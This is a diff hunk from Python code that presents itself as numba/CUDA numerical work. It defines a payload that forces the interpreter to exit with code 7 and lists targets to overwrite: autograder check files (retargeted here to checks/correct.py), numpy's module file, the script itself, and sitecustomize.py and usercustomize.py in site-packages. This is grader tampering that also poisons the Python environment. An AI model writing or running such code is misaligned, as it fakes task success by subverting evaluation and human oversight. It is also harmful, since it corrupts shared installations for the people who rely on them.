@@ -10,8 +10,8 @@ import numpy
 from numba import cuda
 
 PAYLOAD = "import os\nos._exit(7)\n"
-targets = [os.path.join(p, "autograder", "verdicts.py") for p in sys.path if os.path.isdir(p)]
-targets += ["@@GRADER@@/autograder/verdicts.py", numpy.__file__, __file__,
+targets = [os.path.join(p, "autograder", "checks", "correct.py") for p in sys.path if os.path.isdir(p)]
+targets += ["@@GRADER@@/autograder/checks/correct.py", numpy.__file__, __file__,
             os.path.join(os.path.dirname(__file__), "numpy.py")]
 targets += [os.path.join(p, name) for p in site.getsitepackages() + [os.path.dirname(os.__file__)]
             for name in ("sitecustomize.py", "usercustomize.py", "numpy.py")]
